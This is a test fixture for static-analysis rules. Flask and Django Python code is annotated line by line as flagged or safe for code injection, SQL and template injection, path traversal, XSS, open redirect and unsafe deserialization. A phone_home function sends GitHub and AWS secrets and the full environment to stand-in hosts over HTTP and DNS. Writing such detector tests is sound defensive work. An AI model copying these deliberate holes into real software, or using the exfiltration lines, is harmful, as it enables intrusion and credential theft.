import os
import pickle
import shlex
import sqlite3

import jinja2
import requests
import socket
import yaml
from django.http import HttpResponse, HttpResponseRedirect
from django.utils.http import url_has_allowed_host_and_scheme
from django.utils.safestring import mark_safe
from flask import Flask, Markup, escape, redirect, render_template_string, request, send_file
from werkzeug.utils import secure_filename

app = Flask(__name__)


@app.route("/calc")
def calc():
    expr = request.args.get("expr", "0")
    # ruleid: py.flow.code-injection
    result = eval(expr)
    # ruleid: py.flow.code-injection
    exec("total = " + request.form["total"])
    # ok: py.flow.code-injection
    safe = eval(str(int(expr)))
    # ok: py.flow.code-injection
    fixed = eval("1 + 2")
    # ok: py.flow.code-injection
    other = eval(settings.EXPRESSION)
    return str(result)


@app.route("/users")
def users():
    name = request.args.get("name")
    conn = sqlite3.connect("app.db")
    cur = conn.cursor()
    query = "SELECT * FROM users WHERE name = '" + name + "'"
    # ruleid: py.flow.sql-injection
    cur.execute(query)
    # ruleid: py.flow.sql-injection
    cur.execute(f"DELETE FROM sessions WHERE user = '{request.values['user']}'")
    # ok: py.flow.sql-injection
    cur.execute("SELECT * FROM users WHERE name = ?", (name,))
    # ok: py.flow.sql-injection
    cur.execute("SELECT * FROM users WHERE id = " + str(int(request.args["id"])))
    # ok: py.flow.sql-injection
    cur.execute("SELECT * FROM users WHERE role = 'admin'")
    return "ok"


def django_search(request):
    term = request.GET.get("q", "")
    # ruleid: py.flow.sql-injection
    rows = Item.objects.raw("SELECT * FROM items WHERE title LIKE '" + term + "'")
    # ok: py.flow.sql-injection
    rows = Item.objects.raw("SELECT * FROM items WHERE title LIKE %s", [term])
    return rows


@app.route("/preview")
def preview():
    body = request.get_json()
    # ruleid: py.flow.template-injection
    html = render_template_string(body["template"])
    # ruleid: py.flow.template-injection
    page = jinja2.Template("<h1>" + request.args["title"] + "</h1>").render()
    # ok: py.flow.template-injection
    fixed = render_template_string("<h1>{{ title }}</h1>", title=request.args["title"])
    # ok: py.flow.template-injection
    other = render_template_string(load_template("card.html"))
    return html + page + fixed + other


@app.route("/download")
def download():
    filename = request.args["file"]
    # ruleid: py.flow.path-traversal
    with open(os.path.join("/srv/uploads", filename)) as fh:
        data = fh.read()
    # ruleid: py.flow.path-traversal
    send_file("/srv/reports/" + request.args.get("report"))
    # ok: py.flow.path-traversal
    send_file(os.path.join("/srv/uploads", secure_filename(filename)))
    # ok: py.flow.path-traversal
    open(os.path.join("/srv/uploads", os.path.basename(filename)))
    # ok: py.flow.path-traversal
    open("/srv/static/index.html")
    return data


@app.route("/hello")
def hello():
    name = request.args.get("name", "")
    # ruleid: py.flow.xss
    banner = Markup("<b>" + name + "</b>")
    # ok: py.flow.xss
    safe = Markup("<b>%s</b>") % escape(name)
    # ok: py.flow.xss
    fixed = Markup("<b>static</b>")
    return banner + safe + fixed


def django_hello(request):
    who = request.GET["who"]
    # ruleid: py.flow.xss
    note = mark_safe("<i>" + who + "</i>")
    # ruleid: py.flow.xss
    return HttpResponse("<p>Hello " + who + "</p>")


def django_plain(request):
    # ok: py.flow.xss
    return HttpResponse("<p>Hello</p>")


@app.route("/login")
def login():
    target = request.args.get("next")
    # ruleid: py.flow.open-redirect
    return redirect(target)


@app.route("/logout")
def logout():
    # ok: py.flow.open-redirect
    return redirect("/")


@app.route("/profile")
def profile():
    # ok: py.flow.open-redirect
    return redirect("/users/" + request.args["id"])


def django_login(request):
    nxt = request.GET.get("next", "/")
    if url_has_allowed_host_and_scheme(nxt, allowed_hosts={request.get_host()}):
        # ok: py.flow.open-redirect
        return HttpResponseRedirect(nxt)
    # ruleid: py.flow.open-redirect
    return HttpResponseRedirect(nxt)


@app.route("/restore", methods=["POST"])
def restore():
    blob = request.get_data()
    # ruleid: py.flow.unsafe-deserialization
    state = pickle.loads(blob)
    # ruleid: py.flow.unsafe-deserialization
    config = yaml.load(request.form["config"])
    # ok: py.flow.unsafe-deserialization
    config = yaml.load(request.form["config"], Loader=yaml.SafeLoader)
    # ok: py.flow.unsafe-deserialization
    cached = pickle.loads(open("/var/cache/state.pkl", "rb").read())
    return str(state)


def phone_home():
    token = os.environ["GITHUB_TOKEN"]
    # ruleid: py.flow.secret-exfiltration
    requests.get("https://collector.example.net/t?k=" + token)
    # ruleid: py.flow.secret-exfiltration
    socket.gethostbyname(os.getenv("AWS_SECRET_ACCESS_KEY") + ".leak.example.net")
    # ruleid: py.flow.secret-exfiltration
    requests.post("https://x.example.net/?e=" + str(os.environ.copy()))
    # ok: py.flow.secret-exfiltration
    requests.get("https://api.github.com/user", headers={"Authorization": "token " + token})
    # ok: py.flow.secret-exfiltration
    requests.get(os.environ["API_BASE_URL"] + "/health")
    # ok: py.flow.secret-exfiltration
    requests.get("https://api.example.com/status")
